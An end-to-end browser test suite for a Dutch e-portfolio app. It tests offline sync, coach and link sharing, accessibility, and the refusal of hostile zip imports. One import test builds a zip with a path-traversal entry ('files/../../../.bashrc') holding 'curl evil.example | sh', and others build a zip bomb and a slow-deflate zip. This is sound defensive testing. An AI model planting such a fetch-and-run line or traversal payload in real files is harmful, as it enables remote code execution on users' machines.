import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { expect, test, type Page, ANNA, cachedAtRuntime, MARIEKE, MOCK_API_URL, apiSession, expectNoAxeViolations, expectNoHorizontalScroll, heading, mockState, readOutbox, resetMock, signIn, startControlled, waitForQueryPersist } from './support.ts';
import { BOMB_ATTACHMENT, bombZip, craftZip, portfolioJson, slowDeflate } from '../crafted-zips.ts';

/**
 * The e-portfolio at 360×740: an item with a photo made offline reaches the server exactly
 * once after a reload and coming online; shared with the coach, who comments; the client sees
 * it and answers; after revoking the coach no longer sees it. A link share opens a public page
 * that stops working once revoked. Axe on every screen; one item made by keyboard only.
 */

test.beforeEach(async () => {
  await resetMock();
});

/** A 2×2 PNG, as a phone's screenshot would be (scaled and turned into a JPEG on the device). */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg==', 'base64');

async function writes(prefix: string, userId?: string) {
  return (await mockState()).writeLog.filter((w) => w.resource.startsWith(prefix) && (userId === undefined || w.userId === userId));
}

async function check(page: Page, label: string) {
  await expectNoAxeViolations(page, label);
  await expectNoHorizontalScroll(page, label);
}

/**
 * No task long enough for a person to notice the page hang while the worker reads a zip (200 ms:
 * a person notices a hang from about 100 ms; a loaded 2-core test machine doubles the page's
 * small tasks). Recording starts after the app's own start-up work (`recordLongTasks`): a full run
 * once had a 255 ms task of it, the outbox kinds loading after the first screen, during the import.
 */
const RESPONSIVE_MS = 200;

test('an item with a photo made offline arrives once; shared with the coach, commented, answered, revoked; a link that stops working', async ({
  page,
  context,
  browser,
}) => {
  // one long journey across three browser contexts (client, coach, link visitor) on a shared 2-core machine
  test.setTimeout(240_000);
  await startControlled(page, ANNA.name);
  await page.goto('/portfolio');
  await expect(heading(page, 'Mijn e-portfolio')).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Wat is een e-portfolio?' })).toBeVisible();
  await check(page, 'empty portfolio');
  await waitForQueryPersist(page);

  // offline: a product with a photo
  await context.setOffline(true);
  await page.getByRole('link', { name: 'Nieuw item toevoegen' }).click();
  await expect(heading(page, 'Nieuw item')).toBeVisible();
  await check(page, 'choose kind');
  await page.getByLabel(/^Product/).check();
  await page.getByRole('button', { name: 'Verder' }).click();
  await expect(heading(page, 'Nieuw: Product')).toBeVisible();
  await page.getByLabel('Foto').check();
  await page.getByLabel('Naam van het product').fill('Taart voor een bruiloft');
  await page.getByLabel('Vertel er iets meer over').fill('Drie lagen, <b>met</b> slagroom.');
  await page.getByLabel('Vanaf wanneer (niet verplicht)').fill('5-2024');
  await check(page, 'product form');
  await page.getByRole('button', { name: 'Opslaan' }).click();
  await expect(heading(page, 'Taart voor een bruiloft')).toBeVisible();
  await expect(page.getByText('Drie lagen, <b>met</b> slagroom.')).toBeVisible();
  await page.getByLabel('Bijlage toevoegen').setInputFiles({ name: 'taart.png', mimeType: 'image/png', buffer: PNG });
  await expect(page.getByRole('listitem').filter({ hasText: 'taart.jpg' })).toContainText('Wacht op verbinding');
  await expect(page.getByText('Je kunt dit item delen zodra het is verstuurd.')).toBeVisible();
  await check(page, 'item offline with photo');
  expect((await readOutbox(page)).filter((r) => r.lane.startsWith('portfolioItem:'))).toHaveLength(2);

  await page.reload();
  await expect(heading(page, 'Taart voor een bruiloft')).toBeVisible();
  await expect(page.getByTestId('item-sync-state')).toContainText('Wacht op verbinding');
  expect(await writes('portfolio')).toHaveLength(0);

  await context.setOffline(false);
  await expect(page.getByTestId('item-sync-state')).toContainText('Verstuurd', { timeout: 30_000 });
  await expect.poll(async () => (await writes('portfolioFile:')).length).toBe(1);
  expect(await writes('portfolioItem:')).toHaveLength(1);
  const item = (await mockState()).portfolioItems.find((i) => i.clientId === ANNA.id)!;
  expect(item).toMatchObject({ title: 'Taart voor een bruiloft', kind: 'product', subKind: 'photo', startDate: '2024-05' });
  expect(item.attachments.map((a) => [a.name, a.type])).toEqual([['taart.jpg', 'image/jpeg']]);
  await expect(page.getByRole('button', { name: 'taart.jpg openen' })).toBeVisible();

  // share with the coach (end date proposed: three months)
  await page.getByText('Dit item delen').click();
  await page.getByLabel('Met mijn e-coach').check();
  await check(page, 'share form');
  await page.getByRole('button', { name: 'Delen', exact: true }).click();
  await expect(page.getByRole('button', { name: 'Stoppen met delen (Je e-coach)' })).toBeVisible();
  await expect.poll(async () => (await writes('portfolioShare:')).length).toBe(1);

  // the coach sees it and comments
  const coach = await browser.newContext({ viewport: { width: 360, height: 740 } });
  const coachPage = await coach.newPage();
  await signIn(coachPage, MARIEKE.name);
  await coachPage.goto(`/coach/clienten/${ANNA.id}/portfolio`);
  await expect(heading(coachPage, `E-portfolio van ${ANNA.name}`)).toBeVisible();
  await check(coachPage, 'coach portfolio');
  await coachPage.getByRole('link', { name: 'Taart voor een bruiloft' }).click();
  await expect(heading(coachPage, 'Taart voor een bruiloft')).toBeVisible();
  await expect(coachPage.getByRole('button', { name: 'taart.jpg openen' })).toBeVisible();
  await check(coachPage, 'coach item');
  await coachPage.getByLabel('Jouw reactie').fill('Mooi werk! Zet je dit ook op je cv?');
  await coachPage.getByRole('button', { name: 'Reactie plaatsen' }).click();
  await expect.poll(async () => (await writes('portfolioComment:', MARIEKE.id)).length).toBe(1);

  // the client sees the comment and answers; the access log names the coach
  await page.reload();
  await expect(page.getByText('Mooi werk! Zet je dit ook op je cv?')).toBeVisible();
  await expect(page.getByText(/Marieke Bakker heeft gekeken op/).first()).toBeVisible();
  await page.getByLabel('Jouw reactie').fill('Ja, dat ga ik doen.');
  await page.getByRole('button', { name: 'Reactie plaatsen' }).click();
  await expect.poll(async () => (await writes('portfolioComment:', ANNA.id)).length).toBe(1);
  await check(page, 'item with thread');

  // revoke: the coach no longer sees it
  await page.getByRole('button', { name: 'Stoppen met delen (Je e-coach)' }).click();
  await expect(page.getByText('Gestopt')).toBeVisible();
  await expect.poll(async () => (await mockState()).portfolioShares.find((s) => s.clientId === ANNA.id)?.revokedAt ?? null).not.toBeNull();
  await coachPage.reload();
  await expect(heading(coachPage, 'Niet meer gedeeld')).toBeVisible();
  await check(coachPage, 'coach: no longer shared');
  await coachPage.goto(`/coach/clienten/${ANNA.id}/portfolio`);
  await expect(coachPage.getByText('Deze persoon deelt nu niets met je.')).toBeVisible();
  await coach.close();

  // share by link: a public page with exactly that item, until revoked
  await page.getByText('Dit item delen').click();
  await page.getByLabel(/^Met een link/).check();
  await page.getByRole('button', { name: 'Delen', exact: true }).click();
  const linkField = page.getByLabel('Link om te delen');
  await expect(linkField).toBeVisible();
  const url = await linkField.inputValue();
  expect(url).toMatch(/\/gedeeld\/[A-Za-z0-9_-]{43}$/);
  const token = url.split('/').at(-1)!;
  await check(page, 'item shared by link');

  const visitor = await browser.newContext({ viewport: { width: 360, height: 740 } });
  const visitorPage = await visitor.newPage();
  await visitorPage.goto(url);
  await expect(heading(visitorPage, 'Gedeeld e-portfolio')).toBeVisible();
  await expect(visitorPage.getByRole('heading', { name: 'Taart voor een bruiloft' })).toBeVisible();
  await expect(visitorPage.getByText('Mooi werk!')).toHaveCount(0);
  await expect(visitorPage.getByText(ANNA.name)).toHaveCount(0);
  await check(visitorPage, 'public link page');

  await page.getByRole('button', { name: 'Stoppen met delen (Met een link)' }).click();
  await expect.poll(async () => (await mockState()).portfolioShares.filter((s) => s.audience === 'link' && s.revokedAt !== null).length).toBe(1);
  await visitorPage.reload();
  await expect(heading(visitorPage, 'Deze link werkt niet')).toBeVisible();
  await check(visitorPage, 'public link revoked');
  await visitor.close();

  // the token never shows in a logged path
  expect((await mockState()).writeLog.some((w) => w.path.includes(token))).toBe(false);
  // who looked through the link is in the access log
  expect((await mockState()).portfolioAccess.some((e) => e.viewer === 'link' && e.itemId === item.id)).toBe(true);
});

test('by keyboard only: a new talent', async ({ page }) => {
  await startControlled(page, ANNA.name);
  await page.goto('/portfolio/nieuw');
  await expect(heading(page, 'Nieuw item')).toBeVisible();
  await page.getByLabel(/^Talent/).focus();
  await page.keyboard.press('Space');
  await expect(page.getByLabel(/^Talent/)).toBeChecked();
  await page.keyboard.press('Tab');
  await expect(page.getByRole('button', { name: 'Verder' })).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(heading(page, 'Nieuw: Talent')).toBeVisible();
  await expect(heading(page, 'Nieuw: Talent')).toBeFocused();
  // the back link sits above the title (as on every page): one Tab back reaches it, one forward the form
  await page.keyboard.press('Shift+Tab');
  await expect(page.getByRole('link', { name: 'Iets anders kiezen' })).toBeFocused();
  await page.keyboard.press('Tab');
  await expect(page.getByLabel('Waar ben je goed in?')).toBeFocused();
  await page.keyboard.type('Ik kan goed plannen');
  await page.keyboard.press('Tab');
  await expect(page.getByLabel('Vertel er iets meer over')).toBeFocused();
  await page.keyboard.type('Ik maakte het rooster bij de voetbalclub.');
  await page.keyboard.press('Tab');
  await expect(page.getByLabel('Vaardigheden en trefwoorden (niet verplicht)')).toBeFocused();
  await page.keyboard.type('plannen, organiseren');
  await page.keyboard.press('Tab');
  await expect(page.getByRole('button', { name: 'Opslaan' })).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(heading(page, 'Ik kan goed plannen')).toBeVisible();
  await expect.poll(async () => (await writes('portfolioItem:', ANNA.id)).length).toBe(1);
  const saved = (await mockState()).portfolioItems.find((i) => i.clientId === ANNA.id);
  expect(saved).toMatchObject({ kind: 'talent', tags: ['plannen', 'organiseren'] });

  // the other screens with an item in the portfolio
  await page.getByRole('link', { name: 'Terug naar je portfolio' }).click();
  await expect(page.getByRole('heading', { name: 'Talenten' })).toBeVisible();
  await check(page, 'portfolio list');
  await page.getByRole('link', { name: 'Delen en wie heeft gekeken' }).click();
  await expect(heading(page, 'Delen')).toBeVisible();
  await check(page, 'share a collection');
  await page.goto('/portfolio/bewaren');
  await expect(heading(page, 'Bewaren of meenemen')).toBeVisible();
  await check(page, 'export and import');
});

test('an item deleted offline is gone at once, stays gone after a reload, and is deleted on the server once', async ({ page, context }) => {
  // an item made earlier on another device
  const { token } = await apiSession(ANNA.id);
  const created = await fetch(`${MOCK_API_URL}/api/portfolio/items/e2e-delete-1`, {
    method: 'PUT',
    headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` },
    body: JSON.stringify({ kind: 'talent', subKind: null, title: 'Goed met kinderen', description: 'Oppas bij de buren.', organisation: null, startDate: null, endDate: null, tags: [], link: null, starr: null }),
  });
  expect(created.status).toBe(201);

  await startControlled(page, ANNA.name);
  await page.goto('/portfolio/e2e-delete-1');
  await expect(heading(page, 'Goed met kinderen')).toBeVisible();
  await waitForQueryPersist(page);
  await context.setOffline(true);
  await page.getByRole('button', { name: 'Verwijder dit item' }).click();
  const confirm = page.getByRole('group', { name: 'Wil je ‘Goed met kinderen’ echt verwijderen?' });
  await expect(confirm.getByText('Wil je ‘Goed met kinderen’ echt verwijderen?')).toBeFocused();
  await check(page, 'delete confirmation');
  await confirm.getByRole('button', { name: 'Ja, verwijder het' }).click();
  await expect(heading(page, 'Mijn e-portfolio')).toBeVisible();
  await expect(page.getByText('‘Goed met kinderen’ is verwijderd.')).toBeVisible();
  await expect(page.getByText('Dit staat op dit apparaat. We versturen het zodra je verbinding hebt.')).toBeVisible();
  await expect(page.getByRole('link', { name: 'Goed met kinderen' })).toHaveCount(0);

  await page.reload();
  await expect(heading(page, 'Mijn e-portfolio')).toBeVisible();
  await expect(page.getByRole('link', { name: 'Goed met kinderen' })).toHaveCount(0);
  expect((await readOutbox(page)).filter((r) => r.kind === 'portfolio.item.delete')).toHaveLength(1);
  expect((await mockState()).portfolioItems.some((i) => i.id === 'e2e-delete-1')).toBe(true);

  await context.setOffline(false);
  await expect.poll(async () => (await mockState()).portfolioItems.some((i) => i.id === 'e2e-delete-1')).toBe(false);
  expect((await writes('portfolioItem:e2e-delete-1')).filter((w) => w.method === 'DELETE')).toHaveLength(1);
  await expect.poll(async () => (await readOutbox(page)).length).toBe(0);
});

/**
 * Starts recording the page's long tasks (main thread busy for more than 50 ms), once the app's own
 * start-up work is done (the outbox kinds load after the first screen: `werkmap:kinds`) and the
 * browser was idle after it.
 */
async function recordLongTasks(page: Page) {
  await expect.poll(() => page.evaluate(() => performance.getEntriesByName('werkmap:kinds').length)).toBe(1);
  await page.evaluate(() => new Promise<void>((resolve) => requestIdleCallback(() => resolve(), { timeout: 2_000 })));
  await page.evaluate(() => {
    const durations: number[] = [];
    (window as unknown as { longTasks: number[] }).longTasks = durations;
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) durations.push(Math.round(entry.duration));
    }).observe({ type: 'longtask' });
  });
}
const longTasksOver = (page: Page, ms: number) => page.evaluate((limit) => (window as unknown as { longTasks: number[] }).longTasks.filter((d) => d > limit), ms);

/**
 * A zip as a file on disk: Playwright hands a path to the browser as is, where a buffer would be
 * decoded by a script in the page (itself a long task for a file of 1 MB).
 */
function zipUpload(bytes: Uint8Array, name: string): string {
  const path = test.info().outputPath(`${name}.zip`);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, bytes);
  return path;
}
const PDF = Buffer.from('%PDF-1.4 getuigschrift');

async function openKeep(page: Page) {
  await startControlled(page, ANNA.name);
  await page.goto('/portfolio/bewaren');
  await expect(heading(page, 'Bewaren of meenemen')).toBeVisible();
}

async function nothingImported(page: Page) {
  await expect(page.getByText('Het bestand is in orde')).toHaveCount(0);
  await expect(page.getByRole('button', { name: 'Inladen' })).toHaveCount(0);
  expect((await readOutbox(page)).filter((r) => r.lane.startsWith('portfolioItem:'))).toHaveLength(0);
  expect((await mockState()).portfolioItems.filter((i) => i.clientId === ANNA.id)).toHaveLength(0);
}

test('import: a zip bomb (1 MB whose headers say 1 MB, inflating past 1 GB) is refused within seconds, off the page, and nothing is imported', async ({ page }) => {
  await openKeep(page);
  const bomb = bombZip();
  expect(bomb.byteLength).toBeLessThan(1.1 * 1024 * 1024);
  await recordLongTasks(page);
  const started = Date.now();
  await page.getByLabel('Zip-bestand kiezen').setInputFiles(zipUpload(bomb, 'bomb'));
  // the old import blocked the page for ~11 s, then called it "in orde" and imported 1 MB of it
  await expect(page.getByText(`Het bestand ${BOMB_ATTACHMENT.path} in de zip is uitgepakt te groot: meer dan 8 MB. We hebben niets ingeladen.`)).toBeVisible();
  const took = Date.now() - started;
  console.log(`zip bomb refused after ${took} ms`);
  expect(took).toBeLessThan(5_000);
  await expect(page.getByRole('status').filter({ hasText: 'Het bestand is niet in orde. We hebben niets ingeladen.' })).toBeVisible();
  expect(await longTasksOver(page, RESPONSIVE_MS)).toEqual([]);
  await nothingImported(page);
  await check(page, 'import refused');
});

test('import: a zip with ../ in a name is refused whole, naming the entry', async ({ page }) => {
  await openKeep(page);
  const zip = craftZip([
    { name: 'portfolio.json', data: portfolioJson(PDF.length) },
    { name: BOMB_ATTACHMENT.path, data: PDF },
    { name: 'files/../../../.bashrc', data: Buffer.from('curl evil.example | sh') },
  ]);
  await page.getByLabel('Zip-bestand kiezen').setInputFiles(zipUpload(zip, 'parent-path'));
  await expect(page.getByText('In de zip staat een bestand met een naam die niet mag: files/../../../.bashrc. We hebben niets ingeladen.')).toBeVisible();
  await nothingImported(page);
});

test('import offline (the worker from the precache): a slow zip shows progress, the page stays responsive, Stoppen ends it; a good zip is checked', async ({ page, context }) => {
  await openKeep(page);
  // the worker is in the precache (a chunk of its own, never fetched before it is used)
  const precached = await page.evaluate(async () => {
    const urls: string[] = [];
    for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) urls.push(new URL(request.url).pathname);
    return urls.filter((path) => /^\/assets\/zip\.worker-[\w-]+\.js$/.test(path));
  });
  expect(precached).toHaveLength(1);
  // the zip reader is not precached (issue 15): cached at runtime with the screen that uses it
  await expect.poll(() => cachedAtRuntime(page, /^\/assets\/zip-[\w-]+\.js$/)).toBe(true);
  await context.setOffline(true);
  // honest headers, but seconds of work: thousands of deflate blocks that each build a 32K table
  const slow = craftZip([
    { name: 'portfolio.json', data: portfolioJson(PDF.length) },
    { name: BOMB_ATTACHMENT.path, data: PDF },
    { name: 'files/slow/leeg.bin', compressed: slowDeflate(60_000), size: 0, crc: 0 },
  ]);
  await recordLongTasks(page);
  await page.getByLabel('Zip-bestand kiezen').setInputFiles(zipUpload(slow, 'slow'));
  const bar = page.getByRole('progressbar', { name: 'Bestand controleren' });
  await expect(bar).toBeVisible();
  await expect.poll(async () => Number(await bar.getAttribute('value'))).toBeGreaterThan(0);
  await expect(page.getByRole('status').filter({ hasText: /^We controleren het bestand\. \d+% klaar\.$/ })).toBeVisible();
  // the page answers at once while the worker works
  for (let i = 0; i < 3; i += 1) {
    const asked = Date.now();
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
    expect(Date.now() - asked).toBeLessThan(500);
  }
  const stopped = Date.now();
  await page.getByRole('button', { name: 'Stoppen' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Gestopt. We hebben niets ingeladen.' })).toBeVisible();
  expect(Date.now() - stopped).toBeLessThan(2_000);
  await expect(bar).toHaveCount(0);
  expect(await longTasksOver(page, RESPONSIVE_MS)).toEqual([]);
  await nothingImported(page);

  const good = craftZip([
    { name: 'portfolio.json', data: portfolioJson(PDF.length) },
    { name: BOMB_ATTACHMENT.path, data: PDF },
  ]);
  await page.getByLabel('Zip-bestand kiezen').setInputFiles(zipUpload(good, 'good'));
  await expect(page.getByText('Het bestand is in orde')).toBeVisible();
  await expect(page.getByText('Items: 1. Bijlagen: 1.')).toBeVisible();
});
